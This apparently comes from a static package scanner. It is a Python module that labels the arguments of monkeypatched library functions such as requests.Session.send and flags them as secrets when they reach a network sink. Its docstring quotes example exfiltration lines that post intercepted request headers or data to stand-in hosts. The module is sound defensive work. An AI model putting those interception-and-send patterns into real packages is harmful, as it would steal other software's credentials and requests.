"""What a replaced library function is given: other packages' data (ADR 0071).

``requests.Session.send = send`` or ``sys.modules['requests'] = fake`` on import: every
caller, in any package of the environment, now hands this archive's function its requests,
headers, passwords and paths. ADR 0067 runs such a function as a hook with unknown
arguments, so sending them to a host (``urlopen('http://x.invalid', data=str(req.headers))``)
was a network call of unknown data at import (medium: allowed). Its parameters are marked
:data:`INTERCEPTED` with the name it replaced; at a sink the mark is dropped when the sink is
that very function (a wrapper handing the call on to the original it saved:
``_send(self, req)``) and reads as :data:`sinks.SECRET` anywhere else, and also there when
the call names its own address (``_request(self, 'POST', 'https://x.invalid', json=url)``:
the saved original used to send the intercepted call elsewhere; ADR 0083).

Pure: labels and names in, labels out. What it deliberately does not do: tell a wrapper that
logs a request's URL from one that logs its password (logging is not a sink).
"""

from __future__ import annotations

from airlock.imports.packages.sinks import SECRET

INTERCEPTED = "intercepted:"  # label prefix: a parameter of a function put over ``name``


def mark(replaced: str) -> frozenset[str]:
    """The label a parameter of the function that replaced ``replaced`` carries."""
    return frozenset({INTERCEPTED + replaced})


def marked(labels: frozenset[str]) -> bool:
    """Whether ``labels`` carry a replaced function's parameter (:func:`settle` has work)."""
    return any(label.startswith(INTERCEPTED) for label in labels)


def settle(callee: str, labels: frozenset[str], *, own_address: bool = False) -> frozenset[str]:
    """A sink's labels with the :data:`INTERCEPTED` marks judged (see the module docstring).

    Handed to the replaced function itself (or, for a replaced module, to one of its
    functions) the mark is dropped, unless the call names an address of its own
    (``own_address``: a URL written in the wrapper); at any other sink it is a secret."""
    found = [label for label in labels if label.startswith(INTERCEPTED)]
    if not found:
        return labels
    kept = labels - frozenset(found)
    for label in found:
        replaced = label.removeprefix(INTERCEPTED)
        handed_on = callee == replaced or callee.startswith(replaced + ".")
        if own_address or not handed_on:
            kept |= {SECRET}
    return kept
